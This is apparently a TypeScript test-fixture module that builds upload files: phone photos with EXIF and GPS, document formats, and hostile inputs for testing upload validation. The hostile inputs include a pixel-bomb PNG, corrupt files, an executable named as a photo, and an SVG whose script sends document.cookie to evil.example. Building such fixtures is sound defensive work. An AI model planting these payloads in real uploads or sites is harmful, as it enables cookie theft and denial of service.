/**
 * Upload fixtures, drawn with sharp at test time so the repository holds no
 * binaries. Each builder makes one kind of file an editor (or an attacker)
 * might upload.
 */
import { execFile } from 'node:child_process'
import { randomFillSync } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'

import sharp from 'sharp'

/** Where a phone says it took the photo: the Grote Markt of Mechelen. */
export const GPS = { latitude: '51/1 1/1 4/1', longitude: '4/1 28/1 44/1' }

/** EXIF of a phone photo: make, model and the GPS position (sharp writes the orientation itself). */
const PHONE_EXIF = {
  IFD0: { Make: 'TestPhone', Model: 'Fixture 12' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: GPS.latitude, GPSLongitudeRef: 'E', GPSLongitude: GPS.longitude },
}

/** Adds a phone's EXIF and an orientation tag to a JPEG or WebP being written. */
const asPhoneWrites = (image: sharp.Sharp, orientation: number) => image.withExif(PHONE_EXIF).withMetadata({ orientation })

/**
 * A 12-megapixel phone photo: smooth colour fields with sensor grain, so it
 * compresses like a photo (4 to 8 MB as a JPEG at quality 90) and not like a
 * flat colour. Stored sideways (4000 × 3000) with EXIF orientation 6, as a
 * phone held upright stores it, and with a GPS position.
 */
export async function phonePhoto({ width = 4000, height = 3000 }: { width?: number; height?: number } = {}): Promise<Buffer> {
  const fields = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 70 } } })
    .resize(200, 150, { kernel: 'cubic' })
    .blur(6)
    .png()
    .toBuffer()
  const grain = randomFillSync(Buffer.alloc(width * height * 3))
  const softGrain = await sharp(grain, { raw: { width, height, channels: 3 } }).linear(0.4, 128 * 0.6).raw().toBuffer()
  const photo = sharp(fields)
    .resize(width, height, { kernel: 'cubic' })
    .composite([{ input: softGrain, raw: { width, height, channels: 3 }, blend: 'overlay' }])
    .jpeg({ quality: 90 })
  return asPhoneWrites(photo, 6).toBuffer()
}

/**
 * A picture whose right way up is unmistakable: 400 × 600, blue sky on top,
 * green grass below. Stored turned a quarter to the left with EXIF
 * orientation 6 ("turn right to show"), like a phone photo taken upright.
 */
export const UPRIGHT = { width: 400, height: 600, sky: { r: 30, g: 90, b: 220 }, grass: { r: 40, g: 170, b: 60 } }

export async function sidewaysPhoto(): Promise<Buffer> {
  const { width, height, sky, grass } = UPRIGHT
  const upright = await sharp({ create: { width, height, channels: 3, background: grass } })
    .composite([{ input: await sharp({ create: { width, height: height / 2, channels: 3, background: sky } }).png().toBuffer(), top: 0, left: 0 }])
    .png()
    .toBuffer()
  return asPhoneWrites(sharp(upright).rotate(-90).jpeg({ quality: 92 }), 6).toBuffer()
}

/**
 * 2400 × 1000: a red band on the left quarter, blue elsewhere. Cropping to
 * 4:3 around a focal point on the left keeps red; on the right, only blue.
 */
export async function wideBandedPhoto(): Promise<Buffer> {
  const red = await sharp({ create: { width: 600, height: 1000, channels: 3, background: '#d02020' } }).png().toBuffer()
  return sharp({ create: { width: 2400, height: 1000, channels: 3, background: '#2040d0' } })
    .composite([{ input: red, left: 0, top: 0 }])
    .jpeg({ quality: 90 })
    .toBuffer()
}

/** A logo with a transparent background. */
export async function transparentLogo(): Promise<Buffer> {
  const circle = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="600" height="300"><circle cx="300" cy="150" r="120" fill="#e63"/></svg>')
  return sharp(circle).png().toBuffer()
}

export async function webpPhoto(): Promise<Buffer> {
  return asPhoneWrites(sharp({ create: { width: 1000, height: 750, channels: 3, background: '#3a7' } }).webp({ quality: 80 }), 1).toBuffer()
}

export async function avifPhoto(): Promise<Buffer> {
  return sharp({ create: { width: 900, height: 600, channels: 3, background: '#a37' } }).avif({ quality: 50, effort: 0 }).toBuffer()
}

/**
 * A HEIC photo, as an iPhone takes it (HEVC in a HEIF container, with EXIF
 * and a GPS position). sharp's prebuilt libvips cannot write HEVC, so this
 * one uses heif-enc from Debian's libheif-examples (`apt-get install
 * libheif-examples`; .ci/run installs it). heif-enc copies the JPEG's EXIF.
 */
export async function heicPhoto(): Promise<Buffer> {
  const dir = await mkdtemp(path.join(tmpdir(), 'heic-fixture-'))
  try {
    const source = path.join(dir, 'source.jpg')
    const target = path.join(dir, 'photo.heic')
    const jpeg = await asPhoneWrites(sharp({ create: { width: 640, height: 480, channels: 3, background: '#c84' } }).jpeg({ quality: 90 }), 1).toBuffer()
    await writeFile(source, jpeg)
    try {
      await promisify(execFile)('heif-enc', ['-q', '60', '-o', target, source])
    } catch (error) {
      throw new Error(`heif-enc is needed to make the HEIC fixture: apt-get install libheif-examples (${(error as Error).message})`)
    }
    return await readFile(target)
  } finally {
    await rm(dir, { recursive: true, force: true })
  }
}

/** A valid 1 × 1 PNG whose header claims 30,000 × 30,000 pixels (900 megapixels). */
export async function pixelBomb(): Promise<Buffer> {
  const png = Buffer.from(await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } }).png().toBuffer())
  // IHDR starts at byte 8: length (4), "IHDR" (4), width (4), height (4), …, CRC over type and data.
  png.writeUInt32BE(30_000, 16)
  png.writeUInt32BE(30_000, 20)
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29)
  return png
}

/** The first half of a JPEG, as an interrupted transfer leaves it. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#48c', noise: { type: 'gaussian', mean: 128, sigma: 30 } } })
    .jpeg({ quality: 85 })
    .toBuffer()
  return whole.subarray(0, Math.floor(whole.length / 2))
}

/** A JPEG with bytes flipped all through its image data. */
export async function corruptJpeg(): Promise<Buffer> {
  const whole = Buffer.from(
    await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#48c', noise: { type: 'gaussian', mean: 128, sigma: 30 } } })
      .jpeg({ quality: 85 })
      .toBuffer(),
  )
  for (let index = 2000; index < whole.length; index += 997) whole[index] = whole[index]! ^ 0xff
  return whole
}

/** A real executable (this Node binary's first 64 KB), to be uploaded as "photo.jpg". */
export async function executable(): Promise<Buffer> {
  const handle = await import('node:fs/promises').then((fs) => fs.open(process.execPath, 'r'))
  try {
    const buffer = Buffer.alloc(64 * 1024)
    await handle.read(buffer, 0, buffer.length, 0)
    return buffer
  } finally {
    await handle.close()
  }
}

export const svgWithScript = (): Buffer =>
  Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100" fill="red"/></svg>',
  )

/** 26 MB that start like a JPEG: refused for its size before anything reads on. */
export function oversizedFile(bytes = 26 * 1024 * 1024): Buffer {
  const buffer = Buffer.alloc(bytes)
  Buffer.from([0xff, 0xd8, 0xff, 0xe0]).copy(buffer)
  return buffer
}

/**
 * A one-page PDF with a line of text. `padTo` adds an unreferenced stream
 * object of filler, so the PDF stays well-formed at any size.
 */
export function pdfDocument(text = 'Beleidsplan Inclusieve stad', padTo = 0): Buffer {
  const stream = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  const build = (filler: number) => {
    const all = filler > 0 ? [...objects, `<< /Length ${filler} >>\nstream\n${' '.repeat(filler)}\nendstream`] : objects
    let body = '%PDF-1.4\n'
    const offsets: number[] = []
    all.forEach((object, index) => {
      offsets.push(body.length)
      body += `${index + 1} 0 obj\n${object}\nendobj\n`
    })
    const xref = body.length
    body += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`
    body += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
    return Buffer.from(body, 'latin1')
  }
  const plain = build(0)
  if (padTo <= plain.length) return plain
  // The filler object's own framing takes some bytes and digits: measure, then fill the rest.
  const framing = build(1).length - 1
  const sized = build(padTo - framing)
  return sized.length === padTo ? sized : build(padTo - framing - (sized.length - padTo))
}

/** A minimal Word document (DOCX): the parts file-type and Word look for. */
export function docxDocument(): Buffer {
  return zip([
    [
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    [
      '_rels/.rels',
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ],
    [
      'word/document.xml',
      '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Diversiteitsclausule</w:t></w:r></w:p></w:body></w:document>',
    ],
  ])
}

/** A minimal OpenDocument text (ODT): `mimetype` first and uncompressed, as the standard requires. */
export function odtDocument(): Buffer {
  return zip([
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    [
      'META-INF/manifest.xml',
      '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    ],
    [
      'content.xml',
      '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:text><text:p>Gelijke kansen</text:p></office:text></office:body></office:document-content>',
    ],
  ])
}

/** A ZIP archive of stored (uncompressed) entries: enough for DOCX and ODT fixtures. */
function zip(entries: Array<[name: string, content: string]>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, content] of entries) {
    const nameBytes = Buffer.from(name, 'utf8')
    const data = Buffer.from(content, 'utf8')
    const crc = crc32(data)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4) // version needed
    local.writeUInt16LE(0, 6) // flags
    local.writeUInt16LE(0, 8) // stored
    local.writeUInt32LE(0, 10) // time and date
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(data.length, 22)
    local.writeUInt16LE(nameBytes.length, 26)
    local.writeUInt16LE(0, 28)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(0, 8)
    central.writeUInt16LE(0, 10)
    central.writeUInt32LE(0, 12)
    central.writeUInt32LE(crc, 16)
    central.writeUInt32LE(data.length, 20)
    central.writeUInt32LE(data.length, 24)
    central.writeUInt16LE(nameBytes.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBytes, data)
    centrals.push(central, nameBytes)
    offset += local.length + nameBytes.length + data.length
  }
  const centralSize = centrals.reduce((sum, part) => sum + part.length, 0)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(centralSize, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, ...centrals, end])
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8)
  return (crc ^ 0xffffffff) >>> 0
}

/** Whether raw EXIF (a TIFF structure, as sharp's metadata().exif gives it) points to a GPS directory. */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false
  const tiff = exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? exif.subarray(6) : exif
  const little = tiff.subarray(0, 2).toString('latin1') === 'II'
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at))
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at))
  const ifd0 = u32(4)
  const count = u16(ifd0)
  for (let entry = 0; entry < count; entry++) {
    if (u16(ifd0 + 2 + entry * 12) === 0x8825) return true // GPSInfo
  }
  return false
}
